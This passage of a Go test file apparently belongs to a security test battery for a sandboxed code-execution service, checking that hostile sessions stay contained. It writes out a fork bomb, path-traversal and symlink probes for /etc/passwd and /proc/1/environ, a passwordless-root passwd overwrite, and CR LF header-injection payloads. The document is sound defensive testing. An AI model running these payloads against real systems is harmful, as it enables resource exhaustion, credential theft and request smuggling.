if libc.unshare(0x10000000 | 0x00020000) == -1:
    print("REFUSED", errno.errorcode.get(ctypes.get_errno()))
else:
    libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)
    leaks = [p for p in ("/tmp/{{H}}", "/proc/1/root/tmp/{{H}}") if os.path.exists(p)]
    try:
        os.listdir("/proc/1/root"); leaks.append("/proc/1/root")
    except OSError:
        pass
    print("UNSHARED leaks=%s" % leaks)
'''
print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, timeout=30).stdout)
`, "{{H}}", b.hostMarker))
	out := got.Result.Stdout
	switch {
	case strings.Contains(out, "REFUSED"):
	case b.caps.Isolation == "gvisor" && strings.Contains(out, "UNSHARED leaks=[]"):
	default:
		t.Errorf("unshare: %q %q", out, got.Result.Stderr)
	}
}

// forkBomb forks without end in a child of the kernel. Under runc the pids limit stops it,
// or the memory limit first: then the OOM killer ends the kernel (the execution is
// aborted) and the bomb's processes, never the agent. Under gVisor the bomb's processes
// outgrow the agent's memory guard (one kill per sample) and the host cgroup's hard bound
// ends the whole sandbox: the call fails with 503 and the pool's health check replaces the
// session (docs/SECURITY.md, known limits). Either way the other sessions do not notice.
func (b *battery) forkBomb(t *testing.T) {
	id := b.attacker(t)
	by := b.watch(t)
	resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+id, jsonBody(mustJSON(map[string]any{
		"timeoutInSeconds": 60, "outputStreamsMaxLength": 1 << 20, "code": `
import os, signal, subprocess, sys, time
bomb = """
import os, time
try:
    while True:
        os.fork()
except OSError as e:
    print("FORK FAILED", e.errno, flush=True)
time.sleep(2)
"""
p = subprocess.Popen([sys.executable, "-c", bomb], stdout=subprocess.PIPE, text=True, start_new_session=True)
try:
    out, _ = p.communicate(timeout=45)
except subprocess.TimeoutExpired:
    os.killpg(p.pid, signal.SIGKILL)
    out, _ = p.communicate()
    print("TIMEOUT")
deadline = time.time() + 30
while time.time() < deadline and len([d for d in os.listdir("/proc") if d.isdigit()]) > 24:
    time.sleep(0.2)
print("failed forks:", out.count("FORK FAILED"))
print("CONTAINED" if "FORK FAILED" in out else "ESCAPED")
`})), nil)
	var got execution
	switch {
	case resp.StatusCode == 503 && b.caps.Isolation == "gvisor":
		wantEnvelope(t, resp, body, 503, "ServiceUnavailable")
		t.Logf("known limit: the fork bomb ended its gVisor sandbox")
	case resp.StatusCode != 200 || json.Unmarshal(body, &got) != nil:
		t.Fatalf("fork bomb: %s %s", resp.Status, body)
	case got.Status != "Failed" || !strings.Contains(got.Result.Stderr, agentapi.AbortedMessage):
		verdict(t, got)
	}
	by.check(t)
	// The identifier works again: its session survived, or was replaced.
	deadline := time.Now().Add(2 * time.Minute)
	for {
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+id, jsonBody(`{"code":"6*7"}`), nil)
		if resp.StatusCode == 200 && json.Unmarshal(body, &got) == nil && string(got.Result.ExecutionResult) == "42" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the attacker's identifier after the fork bomb: %s %s", resp.Status, body)
		}
		time.Sleep(500 * time.Millisecond)
	}
}

// pidsHeld takes every process the session may have, with small processes that stay,
// and then has the agent serve: files, executions and a shell, several at once. The agent
// (the sandbox's init, a Go program that starts threads as it needs them) must keep room
// above the user's limit.
func (b *battery) pidsHeld(t *testing.T) {
	id := b.attacker(t)
	by := b.watch(t)
	got := b.mustRun(t, id, `
import subprocess
held = []
try:
    while True:
        held.append(subprocess.Popen(["sleep", "120"]))
except OSError as e:
    print("SPAWN FAILED", e.errno, len(held))
`)
	if !strings.Contains(got.Result.Stdout, "SPAWN FAILED") {
		t.Fatalf("spawning until the limit: %+v", got)
	}
	b.upload(t, id, "while-full.txt", bytes.Repeat([]byte("x"), 4<<20), 200)
	var wg sync.WaitGroup
	errs := make(chan string, 32)
	for range 32 {
		wg.Go(func() {
			resp, err := b.client.Get(b.url + "/files/while-full.txt/content?api-version=" + batteryAPI + "&identifier=" + id)
			if err != nil {
				errs <- err.Error()
				return
			}
			n, _ := io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != 200 || n != 4<<20 {
				errs <- fmt.Sprintf("download while the pids are held: %s, %d bytes", resp.Status, n)
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
	if got := b.mustRun(t, id, "len(held)"); string(got.Result.ExecutionResult) == "" {
		t.Errorf("execution while the pids are held: %+v", got)
	}
	got = b.mustRun(t, id, "[p.kill() for p in held]; [p.wait() for p in held]; held.clear(); 6*7")
	if string(got.Result.ExecutionResult) != "42" {
		t.Errorf("after releasing the pids: %+v", got)
	}
	b.do(t, "DELETE", b.url+"/files/while-full.txt?api-version="+batteryAPI+"&identifier="+id, nil, nil)
	by.check(t)
}

// diskFill fills the session's disk, then tries an upload into the full session, then
// frees the space through the API.
func (b *battery) diskFill(t *testing.T) {
	id := b.attacker(t)
	by := b.watch(t)
	got := b.mustRun(t, id, `
import errno, os
written, err = 0, None
try:
    with open("/mnt/data/fill.bin", "wb") as f:
        buf = b"\1" * (1 << 20)
        while written < (512 << 20):
            f.write(buf)
            written += len(buf)
        f.flush()
        os.fsync(f.fileno())
except OSError as e:
    err = errno.errorcode.get(e.errno)
print(written >> 20, err)
`)
	f := strings.Fields(got.Result.Stdout)
	if len(f) != 2 || (f[1] != "ENOSPC" && f[1] != "EDQUOT") {
		t.Fatalf("filling the disk: want ENOSPC, got %+v", got)
	}
	if mb, _ := strconv.Atoi(f[0]); mb > 64+16 {
		t.Errorf("wrote %d MiB with a 64 MiB disk", mb)
	}
	// An upload into the full session fails cleanly and leaves nothing half written.
	resp, body := b.uploadBody(t, id, "more.bin", bytes.NewReader(bytes.Repeat([]byte{2}, 8<<20)), -1)
	wantEnvelope(t, resp, body, 413, "RequestEntityTooLarge")
	resp, body = b.do(t, "DELETE", b.url+"/files/fill.bin?api-version="+batteryAPI+"&identifier="+id, nil, nil)
	if resp.StatusCode != 204 {
		t.Errorf("deleting the fill: %s %s", resp.Status, body)
	}
	b.upload(t, id, "more.bin", bytes.Repeat([]byte{2}, 8<<20), 200)
	b.do(t, "DELETE", b.url+"/files/more.bin?api-version="+batteryAPI+"&identifier="+id, nil, nil)
	by.check(t)
}

// oversizedUpload sends files above the 128 MB limit, declared and streamed, and checks
// that the victim's files are untouched.
func (b *battery) oversizedUpload(t *testing.T) {
	const size = api.DefaultMaxUploadBytes + 2<<20
	// Declared: refused before a byte is read.
	resp, body := b.uploadBody(t, victimID, "big.bin", io.LimitReader(zeros{}, size), size)
	wantEnvelope(t, resp, body, 413, "RequestEntityTooLarge")
	// Streamed (chunked): cut off at the session's disk or at the limit, whichever comes
	// first.
	resp, body = b.uploadBody(t, victimID, "big.bin", io.LimitReader(zeros{}, size), -1)
	wantEnvelope(t, resp, body, 413, "RequestEntityTooLarge")
	var list struct{ Value []struct{ Name string } }
	b.json(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+victimID, nil, 200, &list)
	names := []string{}
	for _, f := range list.Value {
		names = append(names, f.Name)
	}
	if strings.Contains(strings.Join(names, ","), "big.bin") || !strings.Contains(strings.Join(names, ","), "secret.csv") {
		t.Errorf("the victim's files after oversized uploads: %v", names)
	}
}

func (b *battery) pathTraversal(t *testing.T) {
	q := "api-version=" + batteryAPI + "&identifier=" + malloryID
	for _, c := range []struct {
		path   string
		status int
		code   string
	}{
		{"/files/..%2F..%2Fetc%2Fpasswd/content", 400, "SessionRequestValidationFailed"},
		{"/files/%2e%2e/%2e%2e/etc/passwd/content", 400, "SessionRequestValidationFailed"},
		{"/files/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd", 400, "SessionRequestValidationFailed"},
		{"/files/content/..%2F..%2Fetc%2Fpasswd", 400, "SessionRequestValidationFailed"},
		{"/files/%2Fetc%2Fpasswd/content", 400, "SessionRequestValidationFailed"},
		{"/files/%2Fmnt%2Fdata%2F..%2F..%2Fetc%2Fpasswd/content", 400, "SessionRequestValidationFailed"},
		{"/files?path=..%2F..%2Fetc", 400, "SessionRequestValidationFailed"},
		{"/files?path=%2Fetc", 400, "SessionRequestValidationFailed"},
		{"/files?path=%2Fmnt%2Fdata%2F..", 400, "SessionRequestValidationFailed"},
		{"/files?path=%2Fmnt%2Fdata2", 400, "SessionRequestValidationFailed"},
		{"/files/passwd/content?path=..%2F..%2Fetc", 400, "SessionRequestValidationFailed"},
		// A backslash is an ordinary character in a Linux file name: no such file.
		{"/files/..%5C..%5Cetc%5Cpasswd/content", 404, "NotFound"},
	} {
		sep := "?"
		if strings.Contains(c.path, "?") {
			sep = "&"
		}
		resp, body := b.do(t, "GET", b.url+c.path+sep+q, nil, nil)
		if strings.Contains(string(body), "root:x:0:0") {
			t.Errorf("GET %s served /etc/passwd", c.path)
		}
		wantEnvelope(t, resp, body, c.status, c.code)
	}
	resp, body := b.do(t, "DELETE", b.url+"/files/..%2F..%2Fetc%2Fpasswd?"+q, nil, nil)
	wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	for _, name := range []string{"../../../tmp/" + b.evil, "/etc/" + b.evil, "/mnt/data/../../etc/" + b.evil, "/mnt/data2/" + b.evil, "..", "/tmp/" + b.evil} {
		b.upload(t, malloryID, name, []byte("evil"), 400)
	}
	resp, body = b.uploadBodyPath(t, malloryID, "..%2F..%2Ftmp", b.evil, strings.NewReader("evil"), -1)
	wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	b.probe(t, malloryID, py(`
import os
found = [p for p in ("/tmp/{{E}}", "/etc/{{E}}", "/{{E}}", "/mnt/{{E}}") if os.path.exists(p)]
print("CONTAINED" if not found else "ESCAPED %s" % found)
`, "{{E}}", b.evil))
}

// symlinkDownload plants symbolic links in /mnt/data with code and asks the files API,
// which runs as the sandbox's root, for what they point to.
func (b *battery) symlinkDownload(t *testing.T) {
	b.mustRun(t, malloryID, `
import os
for name, target in (("passwd", "/etc/passwd"), ("environ", "/proc/1/environ"), ("etc", "/etc"), ("agentdir", "/run/sessiond")):
    try:
        os.remove("/mnt/data/" + name)
    except FileNotFoundError:
        pass
    os.symlink(target, "/mnt/data/" + name)
`)
	q := "?api-version=" + batteryAPI + "&identifier=" + malloryID
	for _, p := range []string{"/files/passwd/content", "/files/environ/content", "/files/etc/passwd/content",
		"/files/content/passwd", "/files/agentdir/agent.sock/content", "/files/etc/shadow"} {
		resp, body := b.do(t, "GET", b.url+p+q, nil, nil)
		if strings.Contains(string(body), "root:") || strings.Contains(string(body), "PATH=") {
			t.Errorf("GET %s served the link's target: %s", p, body)
		}
		if resp.StatusCode == 200 {
			t.Errorf("GET %s through a symlink: %s %s", p, resp.Status, body)
		} else {
			wantEnvelope(t, resp, body, resp.StatusCode, errorCode(body))
		}
	}
	for _, dir := range []string{"etc", "agentdir"} {
		resp, body := b.do(t, "GET", b.url+"/files"+q+"&path="+dir, nil, nil)
		if resp.StatusCode == 200 {
			t.Errorf("listing through the symlink %s: %s", dir, body)
		}
	}
	// The listing shows the links themselves, as links are: files, not their targets.
	var list struct{ Value []struct{ Name string } }
	b.json(t, "GET", b.url+"/files"+q+"&recursive=true", nil, 200, &list)
	for _, f := range list.Value {
		if f.Name == "shadow" || f.Name == "hostname" {
			t.Errorf("recursive listing descended into a symlinked directory: %v", list.Value)
		}
	}
}

// symlinkUpload plants links to places the sandbox user may write, and uploads through
// them: the upload replaces the link and never writes its target.
func (b *battery) symlinkUpload(t *testing.T) {
	b.mustRun(t, malloryID, py(`
import os
for name, target in (("tolink", "/tmp/{{E}}-target"), ("todir", "/tmp"), ("topasswd", "/etc/passwd")):
    try:
        os.remove("/mnt/data/" + name)
    except FileNotFoundError:
        pass
    os.symlink(target, "/mnt/data/" + name)
`, "{{E}}", b.evil))
	b.upload(t, malloryID, "tolink", []byte("through the link"), 200)
	b.upload(t, malloryID, "topasswd", []byte("root::0:0::/:/bin/sh\n"), 200)
	resp, body := b.uploadBody(t, malloryID, "todir/"+b.evil, strings.NewReader("through the dir"), -1)
	if resp.StatusCode == 200 {
		t.Errorf("upload through a symlinked directory: %s", body)
	}
	b.probe(t, malloryID, py(`
import os
bad = []
if os.path.exists("/tmp/{{E}}-target") or os.path.exists("/tmp/{{E}}"):
    bad.append("wrote through the link")
if os.path.islink("/mnt/data/tolink") or open("/mnt/data/tolink").read() != "through the link":
    bad.append("the link was not replaced")
if not open("/etc/passwd").read().startswith("root:x:0:0"):
    bad.append("/etc/passwd changed")
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`, "{{E}}", b.evil))
}

// headerInjection sends CR LF where requests may carry it and checks that no header is
// injected into the response.
func (b *battery) headerInjection(t *testing.T) {
	// Raw, so that nothing on the client side cleans the request.
	addr := strings.TrimPrefix(b.srv, "http://")
	pool := strings.TrimPrefix(b.url, b.srv)
	for _, target := range []string{
		pool + "/files?api-version=" + batteryAPI + "&identifier=abcd%0D%0ASet-Cookie:%20injected=1",
		pool + "/files/a%0D%0ASet-Cookie:%20injected=1/content?api-version=" + batteryAPI + "&identifier=" + malloryID,
		pool + "/files?api-version=" + batteryAPI + "&identifier=" + malloryID + "&path=a%0D%0ASet-Cookie:%20injected=1",
	} {
		status, header := rawRequest(t, addr, "GET "+target+" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
		if status != 400 || header.Get("Set-Cookie") != "" || header.Get("x-ms-error-code") != "SessionRequestValidationFailed" {
			t.Errorf("GET %s: %d %v", target, status, header)
		}
	}
	// Reflected into Operation-Location: the subscription segment and the api-version.
	u := b.srv + "/subscriptions/a%0D%0AX-Injected:%201/resourceGroups/rg/sessionPools/" + strings.TrimPrefix(pool, "/subscriptions/s/resourceGroups/rg/sessionPools/") +
		"/executions?api-version=2025-10-02-preview%0D%0AX-Injected:%202&identifier=" + malloryID
	resp, body := b.do(t, "POST", u, jsonBody(`{"code":"1"}`), nil)
	if resp.StatusCode != 200 {
		t.Fatalf("execution with CR LF in the path and api-version: %s %s", resp.Status, body)
	}
	checkHeaders(t, resp.Header)
	loc := resp.Header.Get("Operation-Location")
	if !strings.Contains(loc, "%0D%0A") {
		t.Errorf("Operation-Location %q does not keep CR LF escaped", loc)
	}
	// operation-id is reflected too: it is validated.
	resp, body = b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID, jsonBody(`{"code":"1"}`),
		map[string]string{"operation-id": "x<script>"})
	wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	// A file named with CR LF by code is listed JSON-escaped and cannot be fetched by name.
	b.mustRun(t, malloryID, `open("/mnt/data/a\r\nSet-Cookie: injected=1", "w").write("x")`)
	resp, body = b.do(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+malloryID, nil, nil)
	checkHeaders(t, resp.Header)
	if !json.Valid(body) || !strings.Contains(string(body), `a\r\nSet-Cookie`) {
		t.Errorf("listing a file named with CR LF: %s", body)
	}
}

func (b *battery) apiVersionAbuse(t *testing.T) {
	u := b.url + "/executions?identifier=" + malloryID
	resp, body := b.do(t, "POST", u, jsonBody(`{"code":"1"}`), nil)
	wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	resp, body = b.do(t, "POST", u+"&api-version=", jsonBody(`{"code":"1"}`), nil)
	wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	// Any other string is accepted (azure-api.md §2.1) and picks a generation; whatever
	// it is, the answer is a result or an envelope, and nothing of it leaks raw.
	for _, v := range []string{strings.Repeat("9", 8<<10), "0000-00-00", "../../etc/passwd", "%00", "2024-02-02-preview", "<script>"} {
		for _, p := range []string{"/executions", "/files", "/code/execute"} {
			method, body := "GET", io.Reader(nil)
			if p != "/files" {
				method, body = "POST", jsonBody(`{"code":"1","properties":{"code":"1"}}`)
			}
			resp, rb := b.do(t, method, b.url+p+"?identifier="+malloryID+"&api-version="+url.QueryEscape(v), body, nil)
			switch {
			case resp.StatusCode >= 500:
				t.Errorf("%s %s api-version %.20q: %s %s", method, p, v, resp.Status, rb)
			case resp.StatusCode >= 400:
				wantEnvelope(t, resp, rb, resp.StatusCode, errorCode(rb))
			}
			checkHeaders(t, resp.Header)
		}
	}
}

// checkHost checks the host after the battery.
func (b *battery) checkHost(t *testing.T) {
	for path, want := range b.hashes {
		if got := hashFile(path); got != want {
			t.Errorf("%s changed during the battery", path)
		}
	}
	for path, want := range releaseAgents() {
		if b.releaseAgents[path] != want {
			t.Errorf("%s changed during the battery: %q", path, want)
		}
	}
	for _, p := range []string{"/tmp/" + b.evil, "/tmp/" + b.evil + "-target", "/etc/" + b.evil, "/" + b.evil} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s exists on the host", p)
		}
	}
	// Nowhere in the sandboxes' state either (their writable layers and data dirs).
	filepath.WalkDir(b.dataDir, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.Contains(d.Name(), b.evil) {
			t.Errorf("%s exists on the host", p)
		}
		return nil
	})
	if n := b.dns.count(); n != 0 {
		t.Errorf("the host's stand-in DNS server received %d packets", n)
	}
	// The victim is intact: its uploaded file, its code's files, its kernel state and its
	// process.
	resp, body := b.do(t, "GET", b.url+"/files/secret.csv/content?api-version="+batteryAPI+"&identifier="+victimID, nil, nil)
	if resp.StatusCode != 200 || string(body) != "victim,secret\n" {
		t.Errorf("the victim's upload: %s %q", resp.Status, body)
	}
	got := b.mustRun(t, victimID, py(`
import os
print(open("/mnt/data/{{M}}.txt").read(), open("/tmp/{{M}}").read(), secret_{{U}}, victim_proc.poll())
`, "{{M}}", b.victimMarker, "{{U}}", strings.ReplaceAll(b.victimMarker, "-", "_")))
	if got.Result.Stdout != "victim data victim tmp victim kernel state None\n" {
		t.Errorf("the victim after the battery: %+v", got)
	}
	resp, body = b.do(t, "GET", b.srv+"/healthz", nil, nil)
	if resp.StatusCode != 200 {
		t.Errorf("healthz after the battery: %s %s", resp.Status, body)
	}
}

// Requests.

// execution is the new API's execution resource.
type execution struct {
	ID, Identifier, Status string
	Result                 struct {
		Stdout, Stderr  string
		ExecutionResult json.RawMessage
	}
}

// run executes code in identifier's session with timeout seconds and returns the
// execution, which must be answered with 200.
func (b *battery) run(t *testing.T, identifier, code string, timeout int) execution {
	t.Helper()
	var got execution
	b.json(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+url.QueryEscape(identifier),
		jsonBody(mustJSON(map[string]any{"code": code, "timeoutInSeconds": timeout, "outputStreamsMaxLength": 1 << 20})), 200, &got)
	return got
}

// attacker returns an identifier of its own for t's attempt, whose session is deleted when
// t ends: an attempt that kills its session does not take the next one's with it.
func (b *battery) attacker(t *testing.T) string {
	id := "attacker-" + strings.ReplaceAll(t.Name()[strings.LastIndex(t.Name(), "/")+1:], "_", "-")
	t.Cleanup(func() {
		b.do(t, "DELETE", b.url+"/session?api-version="+batteryAPI+"&identifier="+id, nil, nil)
	})
	return id
}

// mustRun runs code, which must succeed.
func (b *battery) mustRun(t *testing.T, identifier, code string) execution {
	t.Helper()
	got := b.run(t, identifier, code, 60)
	if got.Status != "Succeeded" {
		t.Fatalf("execution failed: %s %s", got.Result.Stdout, got.Result.Stderr)
	}
	return got
}

// probe runs a probe, whose last line of output must be CONTAINED.
func (b *battery) probe(t *testing.T, identifier, code string) {
	t.Helper()
	verdict(t, b.run(t, identifier, code, 60))
}

func verdict(t *testing.T, got execution) {
	t.Helper()
	lines := strings.Split(strings.TrimSpace(got.Result.Stdout), "\n")
	if got.Status != "Succeeded" || lines[len(lines)-1] != "CONTAINED" {
		t.Errorf("%s: %s %s", got.Status, got.Result.Stdout, got.Result.Stderr)
	}
}

// do sends a request and returns the response with its body read (at most 64 MiB). headers
// may set Host.
func (b *battery) do(t *testing.T, method, u string, body io.Reader, headers map[string]string) (*http.Response, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, u, body)
	if err != nil {
		t.Fatal(err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for k, v := range headers {
		if k == "Host" {
			req.Host = v
		} else {
			req.Header.Set(k, v)
		}
	}
	resp, err := b.client.Do(req)
	if err != nil {
		t.Fatalf("%s %.200s: %v", method, u, err)
	}
	defer resp.Body.Close()
	rb, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	if err != nil {
		t.Fatalf("%s %.200s: reading: %v", method, u, err)
	}
	return resp, rb
}

// json sends a request whose answer must have status want, and decodes it into out.
func (b *battery) json(t *testing.T, method, u string, body io.Reader, want int, out any) {
	t.Helper()
	resp, rb := b.do(t, method, u, body, nil)
	if resp.StatusCode != want {
		t.Fatalf("%s %.200s: %s %.2000s", method, u, resp.Status, rb)
	}
	if out != nil {
		if err := json.Unmarshal(rb, out); err != nil {
			t.Fatalf("%s %.200s: decoding %.2000s: %v", method, u, rb, err)
		}
	}
}

// upload uploads data as name (the multipart filename) and checks the status.
func (b *battery) upload(t *testing.T, identifier, name string, data []byte, want int) {
	t.Helper()
	resp, body := b.uploadBody(t, identifier, name, bytes.NewReader(data), int64(len(data)))
	if want == 200 {
		if resp.StatusCode != 200 {
			t.Errorf("upload %q: %s %s", name, resp.Status, body)
		}
		return
	}
	wantEnvelope(t, resp, body, want, "SessionRequestValidationFailed")
}

// uploadBody uploads the file data as name; size is the file's size, or -1 to send the
// body chunked.
func (b *battery) uploadBody(t *testing.T, identifier, name string, data io.Reader, size int64) (*http.Response, []byte) {
	return b.uploadBodyPath(t, identifier, "", name, data, size)
}

func (b *battery) uploadBodyPath(t *testing.T, identifier, path, name string, data io.Reader, size int64) (*http.Response, []byte) {
	t.Helper()
	const boundary = "hostileboundary"
	head := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\n" +
		"Content-Type: application/octet-stream\r\n\r\n"
	tail := "\r\n--" + boundary + "--\r\n"
	body := io.MultiReader(strings.NewReader(head), data, strings.NewReader(tail))
	u := b.url + "/files?api-version=" + batteryAPI + "&identifier=" + url.QueryEscape(identifier)
	if path != "" {
		u += "&path=" + path
	}
	req, err := http.NewRequest("POST", u, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "multipart/form-data; boundary="+boundary)
	req.ContentLength = -1
	if size >= 0 {
		req.ContentLength = int64(len(head)+len(tail)) + size
	}
	resp, err := b.client.Do(req)
	if err != nil {
		t.Fatalf("upload %q: %v", name, err)
	}
	defer resp.Body.Close()
	rb, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp, rb
}

// wantEnvelope checks an Azure error envelope: the status, error.code, x-ms-error-code and
// a JSON body.
func wantEnvelope(t *testing.T, resp *http.Response, body []byte, status int, code string) {
	t.Helper()
	var env struct {
		Error struct{ Code, Message, TraceID string }
	}
	err := json.Unmarshal(body, &env)
	switch {
	case resp.StatusCode != status:
		t.Errorf("%s %s: status %s, want %d: %.500s", resp.Request.Method, resp.Request.URL.Path, resp.Status, status, body)
	case err != nil || env.Error.Code != code || env.Error.Message == "":
		t.Errorf("%s %s: envelope %.500s, want code %s", resp.Request.Method, resp.Request.URL.Path, body, code)
	case resp.Header.Get("x-ms-error-code") != code:
		t.Errorf("%s %s: x-ms-error-code %q, want %s", resp.Request.Method, resp.Request.URL.Path, resp.Header.Get("x-ms-error-code"), code)
	case !strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json"):
		t.Errorf("%s %s: Content-Type %q", resp.Request.Method, resp.Request.URL.Path, resp.Header.Get("Content-Type"))
	}
}

// errorCode returns an envelope's error.code.
func errorCode(body []byte) string {
	var env struct{ Error struct{ Code string } }
	json.Unmarshal(body, &env)
	return env.Error.Code
}

// checkHeaders fails t if any response header looks injected.
func checkHeaders(t *testing.T, h http.Header) {
	t.Helper()
	for k, vs := range h {
		if strings.EqualFold(k, "Set-Cookie") || strings.EqualFold(k, "X-Injected") {
			t.Errorf("injected response header %s: %q", k, vs)
		}
		for _, v := range vs {
			if strings.ContainsAny(v, "\r\n\x00") {
				t.Errorf("response header %s has a control character: %q", k, v)
			}
		}
	}
}

// rawRequest writes req on a new connection to addr and returns the response's status and
// headers.
func rawRequest(t *testing.T, addr, req string) (int, http.Header) {
	t.Helper()
	c, err := net.DialTimeout("tcp", addr, 30*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(2 * time.Minute))
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("reading the response to %q: %v", req, err)
	}
	resp.Body.Close()
	return resp.StatusCode, resp.Header
}

func jsonBody(s string) io.Reader { return strings.NewReader(s) }

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// The bystander.

// bystander keeps executing in its own session while an attack runs, and remembers the
// slowest answer and the first failure.
type bystander struct {
	stop, done chan struct{}
	mu         sync.Mutex
	worst      time.Duration // guarded by mu
	err        error         // guarded by mu
	n          int           // answers; guarded by mu
}

// bystanderMax is the slowest answer a bystander may see during an attack: generous, since
// the machine has two cores that other tests share.
const bystanderMax = 20 * time.Second

// watch starts a bystander; check stops it.
func (b *battery) watch(t *testing.T) *bystander {
	by := &bystander{stop: make(chan struct{}), done: make(chan struct{})}
	u := b.url + "/executions?api-version=" + batteryAPI + "&identifier=" + bystanderID
	go func() {
		defer close(by.done)
		for {
			t0 := time.Now()
			err := func() error {
				resp, err := b.client.Post(u, "application/json", strings.NewReader(`{"code":"6*7"}`))
				if err != nil {
					return err
				}
				defer resp.Body.Close()
				var got execution
				if err := json.NewDecoder(resp.Body).Decode(&got); err != nil || string(got.Result.ExecutionResult) != "42" {
					return fmt.Errorf("bystander got %s %+v (%v)", resp.Status, got, err)
				}
				return nil
			}()
			d := time.Since(t0)
			by.mu.Lock()
			by.n++
			by.worst = max(by.worst, d)
			if err != nil && by.err == nil {
				by.err = err
			}
			by.mu.Unlock()
			select {
			case <-by.stop:
				return
			case <-time.After(200 * time.Millisecond):
			}
		}
	}()
	t.Cleanup(by.finish)
	return by
}

func (by *bystander) finish() {
	select {
	case <-by.stop:
	default:
		close(by.stop)
	}
	<-by.done
}

// check stops the bystander and fails t if it failed, never answered, or waited too long.
func (by *bystander) check(t *testing.T) {
	t.Helper()
	by.finish()
	by.mu.Lock()
	defer by.mu.Unlock()
	switch {
	case by.err != nil:
		t.Errorf("the bystander session failed during the attack: %v", by.err)
	case by.n == 0:
		t.Errorf("the bystander session never answered during the attack")
	case by.worst > bystanderMax:
		t.Errorf("the bystander session took %v to answer during the attack, want at most %v", by.worst, bystanderMax)
	}
	t.Logf("bystander: %d answers, slowest %v", by.n, by.worst)
}

// Host-side helpers.

// udpTrap is a UDP listener on every host interface that counts what it receives.
type udpTrap struct {
	port int
	n    atomic.Int64
}

func newUDPTrap(t *testing.T) *udpTrap {
	c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4zero})
	if err != nil {
		t.Fatal(err)
	}
	u := &udpTrap{port: c.LocalAddr().(*net.UDPAddr).Port}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.ReadFromUDP(buf); err != nil {
				if errors.Is(err, net.ErrClosed) {
					return
				}
				continue
			}
			u.n.Add(1)
		}
	}()
	t.Cleanup(func() { c.Close(); <-done })
	return u
}

func (u *udpTrap) count() int64 { return u.n.Load() }

// hostIPv4s lists the host's non-loopback IPv4 addresses.
func hostIPv4s() []string {
	var out []string
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			out = append(out, n.IP.String())
		}
	}
	return out
}

// runtimeBinaries are the host's runc and runsc executables.
func runtimeBinaries() []string {
	var out []string
	for _, name := range oci.Names() {
		if p, err := exec.LookPath(name); err == nil {
			out = append(out, p)
		}
	}
	return out
}

func hashFiles(t *testing.T, paths []string) map[string]string {
	m := map[string]string{}
	for _, p := range paths {
		if h := hashFile(p); h != "" {
			m[p] = h
		} else {
			t.Logf("not hashing %s: unreadable", p)
		}
	}
	return m
}

func hashFile(path string) string {
	f, err := os.Open(path)
	if err != nil {
		return ""
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		return ""
	}
	return hex.EncodeToString(h.Sum(nil))
}

// releaseAgents returns the host's cgroup v1 release_agent files and their contents.
func releaseAgents() map[string]string {
	m := map[string]string{}
	paths, _ := filepath.Glob("/sys/fs/cgroup/*/release_agent")
	for _, p := range paths {
		b, _ := os.ReadFile(p)
		m[p] = string(b)
	}
	return m
}

// zeros reads zero bytes for ever.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func randHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// Probes.

// py returns code with the replacements of kv (old, new, ...) made.
func py(code string, kv ...string) string { return strings.NewReplacer(kv...).Replace(code) }

// errnoProbe is a probe of one libc call that must fail with one of the errno names.
func errnoProbe(call string, errnos ...string) string {
	return py(`
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
r = {{CALL}}
e = errno.errorcode.get(ctypes.get_errno())
print("CONTAINED" if r == -1 and e in {{ERRNOS}} else "ESCAPED r=%d errno=%s" % (r, e))
`, "{{CALL}}", call, "{{ERRNOS}}", pyList(errnos))
}

// connectProbe tries TCP connections to each (host, port) and, with http, an HTTP GET.
func connectProbe(targets [][2]string, httpGet bool) string {
	var ts []string
	for _, hp := range targets {
		ts = append(ts, fmt.Sprintf("(%q, %s)", hp[0], hp[1]))
	}
	return py(`
import socket, urllib.request
reached = []
